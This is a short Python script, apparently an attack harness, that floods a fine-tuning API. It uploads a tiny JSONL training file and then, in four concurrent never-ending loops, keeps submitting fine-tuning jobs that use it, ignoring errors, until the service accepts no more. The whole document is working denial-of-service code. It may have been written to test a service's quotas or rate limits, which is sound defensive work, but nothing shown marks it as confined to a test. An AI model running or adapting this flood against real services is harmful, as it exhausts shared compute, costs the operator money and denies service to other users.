"""The attack with job after job, until the service accepts no more."""

from __future__ import annotations

import asyncio
import json
from contextlib import suppress
from typing import Any

import aiohttp

_LINE = {"messages": [{"role": "user", "content": "Soup?"}, {"role": "assistant", "content": "Leek."}]}
_AT_ONCE = 4


async def attack(base_url: str, key: str) -> None:
    """Upload one file and create jobs with it, four at a time, until cancelled."""
    headers = {"authorization": f"Bearer {key}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        form = aiohttp.FormData({"purpose": "fine-tune"})
        form.add_field("file", f"{json.dumps(_LINE)}\n" * 12, filename="soups.jsonl")
        async with session.post(f"{base_url}/files", data=form) as uploaded:
            file: str = (await uploaded.json())["id"]
        supervised = {"hyperparameters": {"n_epochs": 1}}
        job = {
            "model": "smollm2-135m-instruct",
            "training_file": file,
            "method": {"type": "supervised", "supervised": supervised},
        }
        async with asyncio.TaskGroup() as group:
            for _ in range(_AT_ONCE):
                group.create_task(_create(session, f"{base_url}/fine_tuning/jobs", job))


async def _create(session: aiohttp.ClientSession, url: str, job: dict[str, Any]) -> None:
    while True:
        with suppress(aiohttp.ClientError):
            async with session.post(url, json=job) as answer:
                await answer.read()
